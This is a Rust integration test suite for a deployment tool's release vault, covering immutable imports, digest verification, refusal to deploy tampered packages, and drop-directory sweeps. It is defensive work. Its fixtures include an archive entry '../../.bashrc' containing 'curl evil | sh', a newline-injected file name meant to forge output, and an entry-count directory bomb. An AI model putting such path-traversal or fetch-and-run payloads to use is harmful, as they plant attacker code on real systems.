//! The release vault end to end: import, immutability, verify, and runs of vault packages.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use common::{Home, run};

/// The demo workspace, and its drop dir holding the pets 1.4.0 release.
fn demo() -> (Home, PathBuf) {
    let home = Home::new();
    assert_eq!(run(home.pilote().args(["demo", "--no-open"])).0, 0);
    let data = home.path().join("data/pilote/workspaces/demo");
    (home, data)
}

fn pilote(home: &Home, args: &[&str]) -> (i32, String, String) {
    run(home.pilote().args(args))
}

fn import(home: &Home, path: &std::path::Path, version: &str) -> (i32, String, String) {
    let path = path.display().to_string();
    pilote(
        home,
        &[
            "vault",
            "import",
            &path,
            "--app",
            "pets",
            "--version",
            version,
        ],
    )
}

#[test]
fn a_version_is_imported_once_and_never_changes() {
    let (home, data) = demo();
    let release = data.join("drop/pets-1.4.0");
    let (code, out, err) = import(&home, &release, "1.4.0");
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with("imported pets 1.4.0: 4 artifact(s), package sha256 "),
        "{out}"
    );

    // Again, the same content: nothing changes.
    let (code, out, _) = import(&home, &release, "1.4.0");
    assert_eq!(code, 0);
    assert!(
        out.contains("already in the vault with this content"),
        "{out}"
    );

    // Another content under the same version: refused, with both digests.
    let other = home.path().join("other");
    common::copy_dir(&release, &other);
    std::fs::write(other.join("pets.war"), "a different build").expect("write");
    let (code, _, err) = import(&home, &other, "1.4.0");
    assert_eq!(code, 2);
    let digests: Vec<&str> = err
        .split(|c: char| !c.is_ascii_hexdigit())
        .filter(|w| w.len() == 64)
        .collect();
    assert_eq!(digests.len(), 2, "{err}");
    insta::assert_snapshot!(
        err.replace(digests[0], "[DIGEST A]")
            .replace(digests[1], "[DIGEST B]")
    );

    let (code, out, _) = pilote(&home, &["vault", "show", "pets", "1.4.0", "--json"]);
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    let paths: Vec<&str> = v["package"]["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .map(|a| a["path"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        paths,
        [
            "batch/pets-batch.dsx",
            "pets.war",
            "sql/R1.4.0__vaccinations_rollback.sql",
            "sql/V1.4.0__vaccinations.sql"
        ]
    );

    // Blobs are read-only files in a private dir.
    let vault = data.join("vault");
    assert_eq!(
        std::fs::metadata(&vault)
            .expect("vault")
            .permissions()
            .mode()
            & 0o777,
        0o700
    );
    for blob in std::fs::read_dir(vault.join("blobs")).expect("blobs") {
        let mode = blob
            .expect("blob")
            .metadata()
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o400);
    }
}

#[test]
fn an_altered_blob_is_named_by_verify_and_never_deployed() {
    let (home, data) = demo();
    assert_eq!(import(&home, &data.join("drop/pets-1.4.0"), "1.4.0").0, 0);
    assert_eq!(pilote(&home, &["vault", "verify"]).0, 0);
    let (code, json, err) = pilote(&home, &["vault", "verify", "--json"]);
    assert_eq!(code, 0, "{json}{err}");
    let v: serde_json::Value = serde_json::from_str(&json).expect("json");
    assert_eq!(
        (&v["ok"], &v["packages"][0]["ok"]),
        (&true.into(), &true.into()),
        "{v}"
    );

    let (_, out, _) = pilote(&home, &["vault", "show", "pets", "1.4.0", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    let war = v["package"]["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .find(|a| a["path"] == "pets.war")
        .and_then(|a| a["sha256"].as_str())
        .expect("war digest")
        .to_string();
    let blob = data.join("vault/blobs").join(&war);
    std::fs::set_permissions(&blob, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    std::fs::write(&blob, "a backdoored WAR").expect("tamper");

    let (code, out, err) = pilote(&home, &["vault", "verify"]);
    assert_eq!(code, 1, "{out}{err}");
    // As docs/cli.md says, for scripts too: the same finding and exit code, as data.
    let (code, json, err) = pilote(&home, &["vault", "verify", "--json"]);
    assert_eq!(code, 1, "{json}{err}");
    let v: serde_json::Value = serde_json::from_str(&json).expect("json");
    assert_eq!(v["ok"], false, "{v}");
    assert_eq!(v["packages"][0]["version"], "1.4.0", "{v}");
    assert!(
        v["packages"][0]["problems"][0]
            .as_str()
            .is_some_and(|p| p.starts_with("pets.war: the blob was altered")),
        "{v}"
    );
    assert!(
        out.contains(&format!(
            "ALTERED  pets 1.4.0: pets.war: the blob was altered (recorded sha256 {war}, found "
        )),
        "{out}"
    );

    let (code, out, err) = pilote(
        &home,
        &[
            "run",
            "plans/pets-1.4.0.toml",
            "--env",
            "uat",
            "--release",
            "1.4.0",
        ],
    );
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("package pets 1.4.0 does not match its digest, refusing to run it"),
        "{err}"
    );
    let (_, out, _) = pilote(&home, &["runs", "--json"]);
    assert!(out.contains("\"runs\": []"), "a run was created: {out}");

    // Importing a good copy (as the refusal advises) repairs the blob for every version.
    let (code, out, err) = import(&home, &data.join("drop/pets-1.4.0"), "1.4.1");
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("this content is already in the vault as pets 1.4.0"),
        "{err}"
    );
    let (code, out, err) = pilote(&home, &["vault", "verify"]);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn a_run_of_a_vault_package_deploys_its_blobs() {
    let (home, data) = demo();
    assert_eq!(import(&home, &data.join("drop/pets-1.4.0"), "1.4.0").0, 0);
    // The drop dir is not used: remove it to be sure the blobs are what is sent.
    std::fs::remove_dir_all(data.join("drop/pets-1.4.0")).expect("rm");
    let (code, out, err) = pilote(
        &home,
        &[
            "run",
            "plans/pets-1.4.0.toml",
            "--env",
            "uat",
            "--release",
            "1.4.0",
            "--follow",
        ],
    );
    assert_eq!(code, 0, "{out}{err}");
    let war = std::fs::read_to_string(data.join("sandbox/uat/uat-jboss-1/deployments/pets.war"))
        .expect("deployed war");
    assert!(war.contains("1.4.0"), "{war}");
}

/// A `.tar.gz` of `files` at `path`; names are written as given (an attacker's `..` too).
fn tar_gz(path: &std::path::Path, files: &[(&str, &[u8])]) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).expect("create"),
        flate2::Compression::default(),
    );
    let mut b = tar::Builder::new(gz);
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        let bytes = name.as_bytes();
        h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
        h.set_cksum();
        b.append(&h, *data).expect("append");
    }
    b.into_inner().expect("tar").finish().expect("gz");
}

#[test]
fn the_drop_directory_is_swept_into_the_vault() {
    let (home, data) = demo();
    let drop = data.join("drop");
    tar_gz(
        &drop.join("pets-1.5.0.tar.gz"),
        &[
            ("pets.war", b"pets 1.5.0"),
            ("sql/V1.5.0.sql", b"select 1;"),
        ],
    );
    tar_gz(
        &drop.join("pets-6.6.6.tgz"),
        &[("../../.bashrc", b"curl evil | sh")],
    );
    std::fs::write(drop.join("unknown-1.0.war"), "whose?").expect("write");
    {
        use std::io::Write;
        let file = std::fs::File::create(drop.join("pets-1.7.0.zip")).expect("zip");
        let mut z = zip::ZipWriter::new(file);
        z.start_file("pets.war", zip::write::SimpleFileOptions::default())
            .expect("start");
        z.write_all(b"pets 1.7.0").expect("write");
        z.finish().expect("finish");
    }
    // Still being copied: left alone by a sweep that waits for 10 s of calm.
    std::fs::write(drop.join("pets-1.6.0.war"), "half a w").expect("write");

    // A copy in progress under its upload name: never taken, however old.
    std::fs::write(drop.join("pets-1.8.0.war.part"), "half").expect("write");

    let (code, out, err) = pilote(&home, &["vault", "sweep", "--settle", "3600", "--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    let waiting: Vec<&str> = v["waiting"]
        .as_array()
        .expect("waiting")
        .iter()
        .filter_map(|w| w.as_str())
        .collect();
    assert!(waiting.contains(&"pets-1.6.0.war"), "{out}");
    assert_eq!(v["imported"].as_array().map(Vec::len), Some(0), "{out}");

    let (code, out, err) = pilote(&home, &["vault", "sweep", "--settle", "0"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("imported  pets-1.4.0: pets 1.4.0"), "{out}");
    assert!(
        out.contains("imported  pets-1.5.0.tar.gz: pets 1.5.0"),
        "{out}"
    );
    assert!(
        out.contains("imported  pets-1.6.0.war: pets 1.6.0"),
        "{out}"
    );
    assert!(
        out.contains("imported  pets-1.7.0.zip: pets 1.7.0"),
        "{out}"
    );
    assert!(
        out.contains(
            "rejected  pets-6.6.6.tgz: ../../.bashrc: `..` would write outside the package"
        ),
        "{out}"
    );
    assert!(
        out.contains("rejected  unknown-1.0.war: `unknown-1.0.war` is not named APP-VERSION"),
        "{out}"
    );
    assert!(drop.join("pets-1.8.0.war.part").exists(), "{out}");
    assert!(!out.contains("1.8.0"), "{out}");
    let reason =
        std::fs::read_to_string(drop.join("rejected/pets-6.6.6.tgz.reason")).expect("reason");
    assert!(
        reason.contains("would write outside the package"),
        "{reason}"
    );
    assert!(drop.join("imported/pets-1.5.0.tar.gz").exists());
    assert!(!home.path().join(".bashrc").exists() && !data.join(".bashrc").exists());
    let (_, out, _) = pilote(&home, &["vault", "show", "pets", "1.5.0", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    assert_eq!(
        v["package"]["artifacts"][1]["path"], "sql/V1.5.0.sql",
        "{out}"
    );
    let (_, out, _) = pilote(&home, &["vault", "list", "--json"]);
    assert!(
        !out.contains("6.6.6"),
        "a rejected drop reached the vault: {out}"
    );
}

#[test]
fn two_sweeps_racing_import_each_drop_once() {
    let (home, data) = demo();
    for v in ["2.0.0", "2.0.1", "2.0.2"] {
        tar_gz(
            &data.join(format!("drop/pets-{v}.tar.gz")),
            &[("pets.war", v.as_bytes())],
        );
    }
    let results: Vec<(i32, String, String)> = std::thread::scope(|s| {
        let a = s.spawn(|| pilote(&home, &["vault", "sweep", "--settle", "0"]));
        let b = s.spawn(|| pilote(&home, &["vault", "sweep", "--settle", "0"]));
        vec![a.join().expect("a"), b.join().expect("b")]
    });
    for (code, out, err) in &results {
        assert_eq!(*code, 0, "{out}{err}");
        assert!(!out.contains("rejected"), "{out}");
    }
    let (_, out, _) = pilote(&home, &["audit", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    let imports = v["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["action"] == "vault.import")
        .count();
    assert_eq!(imports, 4, "1.4.0 and three 2.0.x, each once: {out}");
}

/// A `.tgz` of empty directories, `n` of them.
fn tgz_of_dirs(path: &std::path::Path, n: usize) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).expect("create"),
        flate2::Compression::best(),
    );
    let mut b = tar::Builder::new(gz);
    for i in 0..n {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Directory);
        h.set_size(0);
        h.set_mode(0o755);
        b.append_data(&mut h, format!("d{i}/"), std::io::empty())
            .expect("append");
    }
    b.into_inner().expect("tar").finish().expect("gz");
}

#[test]
fn hostile_drops_are_refused_early_and_named_safely() {
    let (home, data) = demo();
    let drop = data.join("drop");
    // Empty directories count as entries: refused at the 10,001st, not made and walked.
    tgz_of_dirs(&drop.join("pets-7.0.0.tgz"), 10_001);
    // A name with a newline would print a line of its own in `vault show`.
    tar_gz(
        &drop.join("pets-7.1.0.tar.gz"),
        &[("evil\nok       pets 9.9.9 (1 artifact(s))", b"x")],
    );
    // What killed imports left in vault/tmp: a blob and an extraction of a gone process
    // (pids are below 2^22), and one of a live one (this test's), which stays.
    let tmp = data.join("vault/tmp");
    std::fs::create_dir_all(tmp.join("x2147483000-1/sub")).expect("mkdir");
    std::fs::write(tmp.join("2147483000-2"), "half a blob").expect("write");
    let live = tmp.join(format!("{}-3", std::process::id()));
    std::fs::write(&live, "being copied").expect("write");

    let (code, out, err) = pilote(&home, &["vault", "sweep", "--settle", "0"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains("rejected  pets-7.0.0.tgz: more than 10000 entries (files and directories)"),
        "{out}"
    );
    assert!(
        out.contains("imported  pets-7.1.0.tar.gz: pets 7.1.0"),
        "{out}"
    );
    let left: Vec<String> = std::fs::read_dir(&tmp)
        .expect("ls")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, [format!("{}-3", std::process::id())], "{left:?}");

    let (code, out, _) = pilote(&home, &["vault", "show", "pets", "7.1.0"]);
    assert_eq!(code, 0);
    assert!(out.contains("evil\\nok       pets 9.9.9"), "{out}");
    assert!(
        !out.lines().any(|l| l.starts_with("ok ")),
        "a line of the dropper's: {out}"
    );
}
